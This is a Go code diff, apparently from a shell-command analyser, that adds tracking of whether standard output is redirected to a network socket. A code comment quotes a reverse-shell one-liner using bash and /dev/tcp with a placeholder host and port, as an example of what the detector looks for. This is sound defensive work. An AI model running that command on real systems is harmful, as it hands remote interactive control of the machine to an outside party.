@@ -21,6 +21,7 @@ type redirection struct {
 	// err is where standard error goes, and other where further descriptors go that
 	// were made copies of standard output.
 	err, other channel
+	socket     bool // standard output goes to a service
 	shown      bool // standard output goes to where errors are shown
 	shaky      bool // another redirection may fail, so that the command does not run
 	risky      bool // one may fail, whichever it is
@@ -422,7 +423,7 @@ func (x *redirecting) toSocket(s *state, host string) {
 		return
 	}
 	if fd == "" || fd == "1" {
-		fd, x.red.stdout = "1", discarded
+		fd, x.red.stdout, x.red.socket = "1", discarded, true
 	}
 	// What is sent there can be answered: bash -i >& /dev/tcp/HOST/PORT 0>&1.
 	s.fds.open(fd, d)
@@ -601,6 +602,9 @@ func (r *reader) duplicateOne(s *state, output bool, fd, of string, inv *command
 	switch {
 	case isStdout(fd, output):
 		red.outTo(of)
+		if d := s.fds.get(of); d != nil && d.Taint&command.FromNet != 0 {
+			red.socket = true
+		}
 	case fd == "2":
 		red.errTo(of)
 	case input && of != "" && of != "0":
